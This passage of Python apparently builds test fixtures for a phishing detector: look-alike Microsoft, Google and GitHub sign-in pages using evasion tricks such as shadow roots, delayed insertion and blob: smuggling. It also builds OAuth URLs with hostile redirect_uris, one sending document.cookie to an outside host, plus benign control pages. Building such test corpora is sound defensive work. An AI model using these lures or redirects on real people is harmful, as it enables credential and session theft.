    'sign-in in a modal <dialog> in the top layer', ['tycoon', 'spo'],
    page('Q3 Payment Schedule', DOC_BG + '<dialog id="d" style="padding:0;border:0;background:transparent">' +
         ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in', "Can't access your account?",
                 extra='<p style="font-size:14px">Sign in with Microsoft 365 to view this document.</p>') + '</dialog>',
         MS_STYLE + 'dialog::backdrop{background:rgba(0,0,0,.35)}.card{margin:0}',
         "document.getElementById('d').showModal();"))

row('popover-google', 'shared-sheet-viewer.net', '/s/77k', 'danger', 'google', 'top-layer',
    'Google sign-in in a [popover] element shown with showPopover() on load (top layer, not in the layout flow)',
    'sign-in in a popover in the top layer', ['tycoon', 'gcloud'],
    page('Budget 2026.xlsx', DOC_BG + '<div id="p" popover="manual" style="border:0;padding:0;background:transparent">' +
         g_card(G_LOGO, 'Sign in', 'to continue to Google Sheets', 'Email or phone', 'Enter your password', 'Next', 'Forgot email?')
         + '</div>', G_STYLE + '.card{margin:0}', "document.getElementById('p').showPopover();"))

row('fullscreen-github', 'ci-artifact-viewer.io', '/run/5521', 'danger', 'github', 'top-layer',
    'click on "View build log" requests fullscreen for a hidden element holding a GitHub sign-in (fullscreen top layer)',
    'GitHub sign-in revealed in a requested-fullscreen element after a click', ['fullscreen', 'fullscreen2'],
    page('Build log', '<div style="padding:40px;font:15px Arial"><h2>Build #5521 failed</h2>'
         '<button id="view" style="padding:10px 20px">View build log</button></div>'
         '<div id="fs" style="display:none;background:#f6f8fa">' +
         gh_card(GH_LOGO, 'Sign in to GitHub', 'Username or email address', 'Password', 'Sign in',
                 'Sign in to view the build log of this private repository.') + '</div>',
         GH_STYLE + '#fs:fullscreen{display:block !important;overflow:auto}',
         "document.getElementById('view').addEventListener('click', () => {\n"
         "  const fs = document.getElementById('fs');\n"
         "  fs.requestFullscreen().catch(() => { fs.style.display = 'block'; });\n});"),
    click={'selector': '#view'})

row('click-reveal-microsoft', 'secure-share-docs.org', '/v/2291', 'danger', 'microsoft', 'top-layer',
    'nothing but a "View document" button until a real pointer move and click; then the sign-in is built by script',
    'sign-in built only after pointermove + click on "View document"', ['tycoon', 'tycoon2'],
    page('Document', '<div style="text-align:center;padding-top:140px;font:16px Arial"><p>1 PDF file shared with you</p>'
         '<button id="open" style="padding:12px 30px;font-size:16px">View document</button></div><div id="slot"></div>', MS_STYLE,
         "let moved = false;\naddEventListener('pointermove', () => { moved = true; });\n"
         "document.getElementById('open').addEventListener('click', (e) => {\n"
         "  if (!moved && e.detail === 0) return;\n"
         "  document.getElementById('open').parentNode.remove();\n"
         "  document.getElementById('slot').innerHTML = " + repr(ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password',
                                                                           'Sign in', "Can't access your account?")) + ";\n});"),
    click={'selector': '#open'})

row('late-9s-google', 'meeting-notes-share.com', '/n/31', 'danger', 'google', 'top-layer',
    'a "loading document" spinner for 9 seconds, then the Google sign-in is inserted',
    'Google sign-in inserted after 9 s', ['tycoon', 'tycoon2'],
    page('Loading…', '<div id="spin" style="text-align:center;padding-top:160px;font:16px Arial">Loading document…</div><div id="slot"></div>',
         G_STYLE, "setTimeout(() => {\n  document.getElementById('spin').remove();\n  document.getElementById('slot').innerHTML = " +
         repr(g_card(G_LOGO, 'Sign in', 'to continue to Google Docs', 'Email or phone', 'Enter your password', 'Next', 'Forgot email?'))
         + ";\n}, 9000);"),
    timeoutMs=16000)

SHADOW_CARD = ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in', "Can't access your account?")
row('shadow-scroll-steps-microsoft', 'hr-benefits-portal.net', '/enroll', 'danger', 'microsoft', 'top-layer',
    'Microsoft sign-in in a closed shadow root placed 900px down; the page scrolls itself 5px every 30 ms until it is in view',
    'closed shadow root brought into view a few pixels at a time', ['tycoon', 'visual'],
    page('Benefits enrollment', '<div style="height:900px;padding:30px;font:15px Arial">Benefits enrollment 2027 — please wait…</div>'
         '<div id="host"></div><div style="height:900px"></div>', 'body{margin:0;background:#f0f4f8}',
         "const root = document.getElementById('host').attachShadow({ mode: 'closed' });\n"
         "root.innerHTML = '<style>' + " + repr(MS_STYLE.replace('body{', ':host{display:block;')) + " + '</style>' + " + repr(SHADOW_CARD) + ";\n"
         "const t = setInterval(() => { scrollBy(0, 5); if (scrollY >= 880) clearInterval(t); }, 30);"),
    timeoutMs=15000)

# === 5. OAuth consent and redirect tricks on the genuine hosts ==============================================
def q(**kw):
    return '?' + urllib.parse.urlencode(kw, quote_via=urllib.parse.quote)


MS_TENANT_PATH = '/contoso.onmicrosoft.com/oauth2/v2.0/authorize'
MS_CONSENT = page('Permissions requested', ms_card(MS_LOGO, 'Permissions requested', '', '', 'Accept', '', extra=(
    '<p style="font-size:14px"><b>Mail Summary Pro</b><br>unverified</p><p style="font-size:14px">This app would like to:</p>'
    '<ul style="font-size:14px"><li>Read and write access to your mail</li><li>Have full access to all files you have access to</li>'
    '<li>Maintain access to data you have given it access to</li></ul>'
    '<p style="font-size:12px">Accepting these permissions means that you allow this app to use your data as specified in their '
    'terms of service and privacy statement.</p><button type="button" style="float:none;background:#ccc;color:#000">Cancel</button>'
)).replace('<input type="email" name="loginfmt" placeholder="" autocomplete="username"><input type="password" name="passwd" placeholder="" autocomplete="current-password">', ''),
    MS_STYLE)

CONSENT = ['oauth', 'oauth2', 'oauth3']
row('ms-consent-userinfo-redirect', 'login.microsoftonline.com', MS_TENANT_PATH + q(
    client_id='5d1e3c2b-7a9f-4e61-b0c3-2f8e9d7a6b15', response_type='code', prompt='consent',
    redirect_uri='https://login.microsoftonline.com@mailsummary-app.surge.sh/auth',
    scope='Mail.ReadWrite Files.ReadWrite.All offline_access User.Read', state='r6'),
    'caution', 'microsoft', 'consent-redirect',
    'genuine Entra consent URL whose redirect_uri has the sign-in host as userinfo before a surge.sh host',
    'consent on login.microsoftonline.com, redirect_uri https://login.microsoftonline.com@…surge.sh', CONSENT,
    MS_CONSENT, accept=['danger'])
ROWS.append({**ROWS[-1], 'name': 'ms-consent-githubio-redirect', 'path': MS_TENANT_PATH + q(
    client_id='9b7e1f04-3c55-4a2d-8e6f-1d0c9b8a7e63', response_type='code', prompt='consent',
    redirect_uri='https://contoso-payroll.github.io/callback', scope='Mail.Read Contacts.Read MailboxSettings.ReadWrite offline_access',
    state='r6'), 'trick': 'genuine Entra consent URL whose redirect_uri is a github.io page, critical mail scopes',
    'what': 'consent on login.microsoftonline.com with redirect_uri on github.io and Mail/Contacts scopes'})
ROWS.append({**ROWS[-1], 'name': 'ms-prompt-none-invalid-scope', 'path': MS_TENANT_PATH + q(
    client_id='c4a8e2d1-6b3f-49e0-a7c5-8d2f1e0b9a34', response_type='code', prompt='none',
    redirect_uri='https://docsign-review.gitlab.io/landing', scope='r6.invalid_scope', state='dmljdGltQGNvbnRvc28uY29t'),
    'trick': 'the 2026 advisory pattern: prompt=none + invalid scope to force an error redirect to a gitlab.io page, e-mail in state',
    'what': 'authorize URL built to fail and bounce to gitlab.io (prompt=none, invalid scope)'})

def existing(name, host, path, expect, provider, family, trick, what, sources, **extra):
    """A row on a path that already has a fixture (a genuine page): only the query is this round's."""
    ROWS.append({'name': name, 'host': host, 'path': path, 'expect': expect, 'provider': provider, 'family': family,
                 'trick': trick, 'what': what, 'source': [S[s] for s in sources], **extra})


existing('github-authorize-backslash', 'github.com', '/login/oauth/authorize' + q(
    client_id='Iv1.r6c0ffee5ca1ab1e', redirect_uri='https://ci.contoso.com\\@ci-artifacts.pages.dev/cb',
    scope='repo admin:org delete_repo workflow', state='r6'),
    'caution', 'github', 'consent-redirect',
    'genuine GitHub authorize URL whose redirect_uri uses a backslash + userinfo so parsers disagree on the host (pages.dev)',
    'GitHub authorize, redirect_uri https://ci.contoso.com\\@…pages.dev, repo admin:org delete_repo', CONSENT, accept=['danger'])

existing('google-auth-javascript-redirect', 'accounts.google.com', '/o/oauth2/v2/auth' + q(
    client_id='884412-r6unverified.apps.googleusercontent.com', response_type='code',
    redirect_uri="javascript:fetch('//r6-notes.web.app/c?'+document.cookie)",
    scope='https://mail.google.com/ https://www.googleapis.com/auth/drive', state='r6'),
    'caution', 'google', 'consent-redirect',
    'genuine Google authorize URL with a javascript: redirect_uri and full Gmail + Drive scopes',
    'Google authorize, redirect_uri javascript:…, scopes mail.google.com + drive', CONSENT, accept=['danger'])

existing('google-auth-encoded-userinfo', 'accounts.google.com', '/o/oauth2/v2/auth' + q(
    client_id='884412-r6unverified.apps.googleusercontent.com', response_type='code',
    redirect_uri='https://notes.contoso.com%2F@r6-notes.web.app/auth',
    scope='https://www.googleapis.com/auth/drive https://www.googleapis.com/auth/contacts', state='r6'),
    'caution', 'google', 'consent-redirect',
    'genuine Google authorize URL whose redirect_uri hides web.app behind an encoded-slash userinfo (notes.contoso.com%2F@)',
    'Google authorize, redirect_uri https://notes.contoso.com%2F@…web.app, drive + contacts', CONSENT, accept=['danger'])

existing('ado-authorize-data-redirect', 'app.vssps.visualstudio.com', '/oauth2/authorize' + q(
    client_id='3f2e1d0c-r6aa-4b5c-9d8e-7f6a5b4c3d21', response_type='Assertion', state='r6',
    scope='vso.code_full vso.tokens vso.build_execute',
    redirect_uri='data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9yNi5zdXJnZS5zaCI8L3NjcmlwdD4='),
    'caution', 'azure-devops', 'consent-redirect',
    'genuine Azure DevOps approval URL with a data: redirect_uri and token-minting scopes',
    'Azure DevOps authorize, redirect_uri data:text/html…, vso.code_full vso.tokens', CONSENT, accept=['danger'])

# === 6. other 2025-2026 lures ==============================================================================
row('device-code-teams-lure', 'teams-meeting-join.net', '/j/19-meeting', 'caution', 'microsoft', 'other',
    'Storm-2372 device-code lure: a Microsoft Teams "join meeting" page shows a code to enter at the genuine microsoft.com/devicelogin; it asks no password',
    'Teams meeting page telling you to enter a device code at microsoft.com/devicelogin', ['storm2372', 'devlogin'],
    page('Microsoft Teams meeting', '<div class="card">' + MS_LOGO + '<h1>Join your Microsoft Teams meeting</h1>'
         '<p style="font-size:14px">To confirm your attendance, go to <a href="https://microsoft.com/devicelogin">microsoft.com/devicelogin</a> '
         'and enter this code:</p><p style="font:600 28px Consolas,monospace;letter-spacing:4px">JK7QH9XW</p>'
         '<p style="font-size:13px">Sign in with your Microsoft 365 work account when asked. The code expires in 15 minutes.</p></div>',
         MS_STYLE), accept=['danger'])

row('turnstile-gate-microsoft', 'verify-docshare-access.com', '/cf/9911', 'danger', 'microsoft', 'other',
    'Tycoon 2FA style: a "Verify you are human" checkbox gate; the click swaps in a Microsoft sign-in prefilled with the e-mail from the fragment',
    'human-check gate, then a Microsoft sign-in', ['tycoon', 'tycoon2'],
    page('Just a moment...', '<div id="gate" style="font:16px Arial;padding:120px 0 0 120px"><h2>verify-docshare-access.com</h2>'
         '<p>Verify you are human by completing the action below.</p><label style="border:1px solid #ccc;padding:16px;display:inline-block">'
         '<input type="checkbox" id="human"> Verify you are human</label></div><div id="slot"></div>', MS_STYLE,
         "document.getElementById('human').addEventListener('click', () => {\n  document.getElementById('gate').remove();\n"
         "  document.getElementById('slot').innerHTML = " + repr(ms_card(MS_LOGO, 'Enter password', 'Email', 'Password', 'Sign in',
                                                                           'Forgot my password')) + ";\n"
         "  document.querySelector('input[name=loginfmt]').value = decodeURIComponent(location.hash.slice(1)) || 'victim@contoso.com';\n});"),
    click={'selector': '#human'})

row('provider-picker-o365', 'file-transfer-secure.net', '/download/5521', 'danger', 'microsoft', 'other',
    '"choose your e-mail provider" picker (Office 365, Outlook, Gmail, Other); the Office 365 tile shows a password form on the same page',
    'provider picker whose Office 365 tile opens a Microsoft password form', ['picker', 'spo'],
    page('Download file', '<div class="card"><h1>Sign in to download</h1><p style="font-size:14px">Select your email provider:</p>'
         '<button id="tile-o365" style="float:none;display:block;width:100%;margin:6px 0">' + img(ms_squares(word=False)) + ' Office 365</button>'
         '<button style="float:none;display:block;width:100%;margin:6px 0">Outlook</button>'
         '<button style="float:none;display:block;width:100%;margin:6px 0">Gmail</button>'
         '<button style="float:none;display:block;width:100%;margin:6px 0">Other mail</button></div><div id="slot"></div>', MS_STYLE,
         "document.getElementById('tile-o365').addEventListener('click', () => {\n  document.querySelector('.card').remove();\n"
         "  document.getElementById('slot').innerHTML = " + repr(ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password',
                                                                           'Sign in', "Can't access your account?")) + ";\n});"),
    click={'selector': '#tile-o365'})

BLOB_HTML = page('Sign in to your account', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
                 "Can't access your account?"), MS_STYLE)
row('html-smuggling-blob', 'remit-advice-viewer.com', '/open', 'danger', 'microsoft', 'other',
    'HTML smuggling: the page assembles the sign-in from base64 into a Blob and navigates the tab to the blob: URL',
    'top-level blob: document holding a Microsoft sign-in', ['azweb'],
    page('Opening…', '<p style="font:15px Arial;padding:40px">Opening secure document…</p>', '',
         "const b64 = " + repr(base64.b64encode(BLOB_HTML.encode()).decode()) + ";\n"
         "const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));\n"
         "location.href = URL.createObjectURL(new Blob([bytes], { type: 'text/html' }));"))

FAB_LOGO = ('<div style="font:700 22px Georgia;color:#7a1f5c">FABRIKAM</div>')
row('tenant-branding-no-ms-logo', 'fabrikam-hr-docs.com', '/common/login', 'danger', 'microsoft', 'other',
    "kit with the victim company's branding instead of Microsoft's logo: \"Sign in to your account\", loginfmt/passwd, e-mail prefilled",
    'Entra-style sign-in with tenant branding only (no Microsoft logo or word)', ['tycoon', 'loc'],
    page('Sign in to your account', ms_card(FAB_LOGO, 'Sign in', 'someone@example.com', 'Password', 'Next',
         "Can't access your account?", user_name='loginfmt', pass_name='passwd'), MS_STYLE,
         "document.querySelector('input[name=loginfmt]').id = 'i0116';\ndocument.querySelector('input[name=passwd]').id = 'i0118';\n"
         "document.querySelector('input[name=loginfmt]').value = 'j.doe@fabrikam.com';"))

# === ordinary pages that must stay quiet ====================================================================
OWN_STYLE = ('body{margin:0;font-family:Arial,sans-serif;background:#fafafa;color:#222}.box{width:380px;margin:60px auto;background:#fff;'
             'border:1px solid #ddd;border-radius:8px;padding:30px}.box input{display:block;width:100%;box-sizing:border-box;padding:9px;'
             'margin:8px 0 14px;border:1px solid #bbb;border-radius:4px}.box button,.sso a{display:block;width:100%;box-sizing:border-box;'
             'padding:10px;border-radius:4px;text-align:center;margin-top:8px;font-size:14px}.box button{background:#2a6;color:#fff;border:0}'
             '.sso a{border:1px solid #999;color:#222;text-decoration:none}')


def own_login(logo, heading, user, pw, button, sso='', lang='en', title=None):
    return page(title or heading, f'<div class="box">{logo}<h1 style="font-size:22px">{heading}</h1><form method="post" action="/session">'
                f'<label>{user}<input type="email" name="email"></label><label>{pw}<input type="password" name="password"></label>'
                f'<button>{button}</button></form><div class="sso">{sso}</div></div>', OWN_STYLE, lang=lang)


row('ok-de-stadtwerke-google-button', 'kundenportal.stadtwerke-lindenau.de', '/anmelden', 'none', None, 'ordinary',
    "German utility's own login with \"Mit Google anmelden\" / \"Mit Microsoft anmelden\" buttons",
    'German company login with its own logo and Google/Microsoft sign-in buttons', ['loc'],
    own_login('<div style="font:700 20px Arial;color:#0a5">Stadtwerke Lindenau</div>', 'Anmelden im Kundenportal', 'E-Mail-Adresse',
              'Passwort', 'Anmelden', '<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=1-sw.apps.googleusercontent.com">'
              'Mit Google anmelden</a><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=sw">Mit Microsoft anmelden</a>',
              lang='de'))

row('ok-gforms-lunch-survey', 'docs.google.com', '/forms/d/e/1FAIpQLSr6teamlunch/viewform', 'none', None, 'ordinary',
    'a real Google Form: team lunch survey, name and menu choice, no password',
    'Google Form survey asking no password', ['platform'],
    page('Team lunch – December', '<div class="top"></div><div class="card"><h1 style="font-weight:400">Team lunch – December</h1>'
         '<p>Pick your menu by Friday. Your Google account is not required.</p></div><div class="q"><div>Your name</div>'
         '<input type="text" name="entry.1"></div><div class="q"><div>Menu</div><label><input type="radio" name="entry.2" style="width:auto"> Pasta</label> '
         '<label><input type="radio" name="entry.2" style="width:auto"> Curry</label></div><div style="width:640px;margin:auto"><button>Submit</button></div>'
         '<p style="text-align:center;font-size:12px;color:#666">Never submit passwords through Google Forms. Google Forms</p>', GFORM_STYLE))

row('ok-github-io-docs-demo', 'formkit-ui.github.io', '/docs/login-component/', 'none', None, 'ordinary',
    'GitHub Pages docs of a UI library: a login component demo (username only, disabled) and its source in <pre>',
    'github.io docs page with a login demo that asks nothing', ['github'],
    page('LoginForm component – formkit-ui', '<main style="max-width:760px;margin:30px auto;font:15px Arial"><h1>LoginForm</h1>'
         '<p>The <code>LoginForm</code> component renders a username and password form. Star us on GitHub!</p>'
         '<div style="border:1px dashed #aaa;padding:20px"><label>Username <input type="text" disabled></label> '
         '<button disabled>Sign in</button></div><pre style="background:#f6f8fa;padding:12px">&lt;form&gt;\n  &lt;input name="login"&gt;\n'
         '  &lt;input type="password" name="password"&gt;\n&lt;/form&gt;</pre></main>', ''))

row('ok-ja-saas-login', 'app.kintai-cloud.jp', '/login', 'none', None, 'ordinary',
    'Japanese SaaS login with its own logo ("ログイン", "パスワード") and a "Microsoft アカウントでログイン" button',
    'Japanese attendance SaaS login', ['loc'],
    own_login('<div style="font:700 20px sans-serif;color:#d33">勤怠クラウド</div>', 'ログイン', 'メールアドレス', 'パスワード', 'ログイン',
              '<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=kc">Microsoft アカウントでログイン</a>', lang='ja'))

row('ok-dialog-newsletter', 'blog.gardening-weekly.com', '/2026/winter-bulbs', 'none', None, 'ordinary',
    'a blog post opening its own newsletter sign-up in a <dialog> with showModal() (e-mail only)',
    'showModal() newsletter dialog asking only an e-mail address', ['tycoon'],
    page('Winter bulbs', '<article style="max-width:700px;margin:30px auto;font:16px Georgia"><h1>Planting bulbs in winter</h1>' +
         '<p>Tulips and daffodils can still go in the ground until the soil freezes. ' * 12 + '</p></article>'
         '<dialog id="d"><h2>Get the weekly newsletter</h2><form method="dialog"><input type="email" placeholder="Your e-mail"> '
         '<button>Subscribe</button></form></dialog>', 'dialog::backdrop{background:rgba(0,0,0,.3)}',
         "document.getElementById('d').showModal();"))

art = ''.join(f'<img src="{svg_url(ms_squares(cols, word=False))}" style="width:120px;height:120px;margin:10px;filter:hue-rotate({deg}deg)">'
              for cols, deg in [(MS_COLORS, 0), (MS_COLORS, 90), (['#333', '#777', '#aaa', '#ddd'], 0), (['#e63946', '#f1faee', '#a8dadc', '#457b9d'], 45)])
row('ok-hue-gallery', 'pixel-quilt-gallery.art', '/series/four-squares', 'none', None, 'ordinary',
    'an art gallery page of four-square colour studies shown through CSS hue-rotate filters (one is the Microsoft palette); no form',
    'hue-rotated image gallery, no credentials', ['logo'],
    page('Four squares – colour studies', '<h1 style="font:24px Arial;margin:20px">Four squares: colour studies</h1><div>' + art + '</div>', ''))

row('ok-fr-boutique-connexion', 'www.atelier-ceramique-lyon.fr', '/compte/connexion', 'none', None, 'ordinary',
    'French shop login "Connexion" / "Mot de passe" with its own name',
    'French shop login', ['loc'],
    own_login('<div style="font:700 20px Georgia;color:#964">Atelier Céramique</div>', 'Connexion', 'Adresse e-mail', 'Mot de passe',
              'Se connecter', '<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=2-ac.apps.googleusercontent.com">Continuer avec Google</a>',
              lang='fr'))

row('ok-es-saas-microsoft-button', 'app.facturas-nube.es', '/iniciar-sesion', 'none', None, 'ordinary',
    'Spanish invoicing SaaS: "Iniciar sesión" with its own password and an "Iniciar sesión con Microsoft" button',
    'Spanish SaaS login with a Microsoft button', ['es'],
    own_login('<div style="font:700 20px Arial;color:#36c">FacturasNube</div>', 'Iniciar sesión', 'Correo electrónico', 'Contraseña',
              'Entrar', '<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=fn">Iniciar sesión con Microsoft</a>',
              lang='es'))

row('ok-pt-clinica-entrar', 'portal.clinica-sorriso.com.br', '/entrar', 'none', None, 'ordinary',
    'Brazilian clinic patient portal "Entrar" / "Senha" with its own name',
    'Portuguese patient-portal login', ['loc'],
    own_login('<div style="font:700 20px Arial;color:#0aa">Clínica Sorriso</div>', 'Entrar', 'E-mail', 'Senha', 'Entrar', lang='pt-BR'))

row('ok-gsites-chess-club', 'sites.google.com', '/view/r6-chess-club/home', 'none', None, 'ordinary',
    'a Google Sites club page with a contact form (name, e-mail, message)',
    'Google Sites page with a contact form', ['sites'],
    page('Lindenau Chess Club', '<main style="max-width:700px;margin:30px auto;font:16px Arial"><h1>Lindenau Chess Club</h1>'
         '<p>We meet every Tuesday at 7 pm. Beginners welcome.</p><form><label>Name <input name="n"></label><br>'
         '<label>E-mail <input type="email" name="e"></label><br><textarea name="m" rows="4" cols="40"></textarea><br>'
         '<button>Send</button></form><p style="font-size:12px;color:#666">Google Sites · Report abuse</p></main>', ''))

row('ok-forms-office-feedback', 'forms.office.com', '/r6/feedback/ResponsePage.aspx', 'none', None, 'ordinary',
    'a Microsoft Forms event-feedback survey (rating and comment), no password',
    'Microsoft Forms feedback survey', ['forms'],
    page('Workshop feedback', '<div class="banner"></div><div class="form"><h1 style="font-weight:600;font-size:22px">Workshop feedback</h1>'
         '<div class="q"><label>1. How useful was the workshop? (1–5)</label><input type="text" name="r1"></div>'
         '<div class="q"><label>2. Comments</label><input type="text" name="r2"></div><button>Submit</button>'
         '<div class="small">Never give out your password. Microsoft Forms</div></div>', FORMS_STYLE))

row('ok-pages-dev-own-login', 'trailmap-planner.pages.dev', '/login', 'none', None, 'ordinary',
    'a hobby app on Cloudflare Pages with its own e-mail/password login and a "Continue with GitHub" button',
    'pages.dev app login of its own', ['cfdev'],
    own_login('<div style="font:700 20px Arial;color:#284">TrailMap</div>', 'Log in to TrailMap', 'E-mail', 'Password', 'Log in',
              '<a href="https://github.com/login/oauth/authorize?client_id=Iv1.trailmap">Continue with GitHub</a>'))

row('ok-firebaseapp-own-login', 'recipe-box-r6.firebaseapp.com', '/', 'none', None, 'ordinary',
    'a Firebase-hosted recipe app with its own login and "Sign in with Google"',
    'firebaseapp.com app login of its own', ['gcloud'],
    own_login('<div style="font:700 20px Arial;color:#e60">RecipeBox</div>', 'Sign in to RecipeBox', 'E-mail', 'Password', 'Sign in',
              '<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=3-rb.apps.googleusercontent.com">Sign in with Google</a>'))

row('ok-popover-cookie', 'news.harbour-town-times.com', '/local/ferry-timetable', 'none', None, 'ordinary',
    'a local news article with a cookie notice in a popover shown on load',
    'popover cookie notice, no credentials', ['tycoon'],
    page('New ferry timetable', '<article style="max-width:700px;margin:30px auto;font:16px Georgia"><h1>New ferry timetable from January</h1>' +
         '<p>The harbour authority published the winter timetable. ' * 10 + '</p></article><div id="c" popover="manual" '
         'style="inset:auto 0 0 0;width:100%;border:0;background:#222;color:#fff;padding:14px">We use cookies. <button>OK</button></div>', '',
         "document.getElementById('c').showPopover();"))

row('ok-late-newsletter', 'cycling-routes-blog.com', '/alps-2026', 'none', None, 'ordinary',
    'a blog that slides in a newsletter box (e-mail only) after 9 seconds',
    'late newsletter box, e-mail only', ['tycoon'],
    page('Alps 2026', '<article style="max-width:700px;margin:30px auto;font:16px Georgia"><h1>Riding the Alps in 2026</h1>' +
         '<p>Col du Galibier opens in June. ' * 10 + '</p></article><div id="slot"></div>', '',
         "setTimeout(() => { document.getElementById('slot').innerHTML = '<div style=\"position:fixed;right:20px;bottom:20px;background:#fff;"
         "border:1px solid #ccc;padding:16px\">Get new routes by e-mail <input type=\"email\"> <button>Subscribe</button></div>'; }, 9000);"),
    settleMs=11000)

row('ok-translate-goog-article', 'www-harbour-town-times-com.translate.goog', '/local/ferry-timetable', 'none', None, 'ordinary',
    'a news article read through the Google Translate proxy (*.translate.goog), no form',
    'translate.goog proxy of an article', ['translate'],
    page('Nuevo horario de ferris', '<div style="border-bottom:1px solid #ddd;padding:6px;font:13px Arial">Google Translate · Spanish</div>'
         '<article style="max-width:700px;margin:30px auto;font:16px Georgia"><h1>Nuevo horario de ferris desde enero</h1><p>La autoridad portuaria publicó el horario de invierno.</p></article>', '',
         lang='es'))


# === probes added after the first run =======================================================================
row('forms-cloud-microsoft', 'forms.cloud.microsoft', '/r6/Pages/ResponsePage.aspx', 'danger', 'microsoft', 'content-host',
    "Microsoft Forms on its newer cloud.microsoft domain: a Microsoft 365 sign-in laid out as a form with a password field",
    'forms.cloud.microsoft form asking the Microsoft 365 password', ['forms', 'formsml'],
    page('Microsoft 365 sign-in', '<div class="banner"></div><div class="form">' + MS_LOGO +
         '<h1 style="font-weight:600;font-size:22px">Sign in to Microsoft 365</h1>'
         '<p>Sign in to open the shared OneDrive folder.</p>'
         '<div class="q"><label>Email, phone, or Skype</label><input type="email" name="r1"></div>'
         '<div class="q"><label>Password</label><input type="password" name="r2"></div>'
         '<button>Sign in</button><div class="small">Microsoft Forms</div></div>', FORMS_STYLE))

row('de-mit-microsoft-heading', 'personalakte-login.de', '/anmelden', 'danger', 'microsoft', 'localized',
    'German kit whose only brand words are the phrase "Mit Microsoft anmelden" used as the heading of its own Kennwort form (no logo)',
    '"Mit Microsoft anmelden" as the heading of a password form, no logo', ['loc', 'es'],
    page('Mit Microsoft anmelden', ms_card('', 'Mit Microsoft anmelden', 'E-Mail, Telefon oder Skype', 'Kennwort', 'Anmelden',
         'Kennwort vergessen?'), MS_STYLE, lang='de'))

row('ja-microsoft-account-heading', 'shanai-portal-login.jp', '/signin', 'danger', 'microsoft', 'localized',
    'Japanese kit: "Microsoft アカウントでサインイン" heading on its own password form, no logo',
    '"Microsoft アカウントでサインイン" heading with パスワード, no logo', ['loc'],
    page('サインイン', ms_card('', 'Microsoft アカウントでサインイン', 'メール、電話、Skype', 'パスワード', 'サインイン',
         'パスワードを忘れた場合'), MS_STYLE, lang='ja'))

# === second probes: more of the providers' own hosts, more languages of "sign in with" ====================
row('ncv-microsoft-signin', 'ncv.microsoft.com', '/r6Xk2pQ9', 'danger', 'microsoft', 'content-host',
    'Customer Voice short-link host ncv.microsoft.com serving a Microsoft sign-in card',
    'ncv.microsoft.com survey that is a Microsoft "Sign in" card', ['dyn'],
    page('Sign in to your account', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
         "Can't access your account?", extra='<p style="font-size:14px">Sign in to open the voicemail shared with you.</p>'), MS_STYLE))

row('sway-cloud-microsoft', 'sway.cloud.microsoft', '/r6QmT4vWx8', 'danger', 'microsoft', 'content-host',
    'Microsoft Sway page (sway.cloud.microsoft) drawn as a Microsoft 365 sign-in with a password field',
    'Sway presentation that is a Microsoft 365 sign-in', ['sway', 'sway2'],
    page('Microsoft 365', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
         "Can't access your account?", extra='<p style="font-size:14px">New voicemail (0:42). Sign in with Microsoft 365 to listen.</p>'),
         MS_STYLE))

for name, host, lang, heading, user, pw, button, sso in [
    ('ok-pt-entrar-com-google', 'app.agenda-salao.com.br', 'pt-BR', 'Entrar', 'E-mail', 'Senha', 'Entrar',
     '<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=4-as.apps.googleusercontent.com">Entrar com o Google</a>'),
    ('ok-it-accedi-con-microsoft', 'portale.studio-rossi.it', 'it', 'Accedi', 'Email', 'Password', 'Accedi',
     '<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=sr">Accedi con Microsoft</a>'),
    ('ok-nl-inloggen-met-google', 'mijn.fietsenmaker-jansen.nl', 'nl', 'Inloggen', 'E-mailadres', 'Wachtwoord', 'Inloggen',
     '<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=5-fj.apps.googleusercontent.com">Inloggen met Google</a>'),
    ('ok-de-weiter-mit-google', 'konto.buchladen-am-markt.de', 'de', 'Anmelden', 'E-Mail-Adresse', 'Passwort', 'Anmelden',
     '<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=6-bm.apps.googleusercontent.com">Weiter mit Google</a>'),
]:
    row(name, host, '/login', 'none', None, 'ordinary',
        f'{lang} site\'s own login with a social-login button ("{re.sub("<[^>]+>", "", sso)}")',
        f'{lang} login of its own with a "{re.sub("<[^>]+>", "", sso)}" button', ['loc'],
        own_login(f'<div style="font:700 20px Arial;color:#357">{host.split(".")[1]}</div>', heading, user, pw, button, sso, lang=lang))

# === third probes: the logo tricks without the provider's input names ======================================
row('ms-logo-inverted-plain-inputs', 'secure-fileview-portal.net', '/s/4f1d', 'danger', 'microsoft', 'drawn-vs-stored',
    'as ms-logo-inverted (four squares stored inverted, shown by filter: invert(1), no brand word) with the kit\'s own input names',
    'inverted-logo sign-in whose inputs are name=email / name=pw', ['logo', 'visual'],
    page('Sign in', ms_card(img(ms_squares([invert(c) for c in MS_COLORS], word=False), '', 'filter:invert(1)'),
         'Sign in', *PLAIN_MS, user_name='email', pass_name='pw'), MS_STYLE))

row('github-mark-tiles-plain-inputs', 'repo-access-review.net', '/session/new', 'danger', 'github', 'drawn-vs-stored',
    'as github-mark-tiles (mark cut into four tiles, no brand word) with the kit\'s own input names',
    'tiled-mark sign-in whose inputs are id=user / name=user', ['logo', 'visual', 'github'],
    page('Sign in', gh_card('<div style="display:grid;grid-template-columns:24px 24px;width:48px;margin:auto">' + tiles + '</div>',
         'Sign in to continue', 'Username or email address', 'Password', 'Sign in', 'New here? <a href="#">Create an account</a>',
         user_id='user', user_name='user'), GH_STYLE))

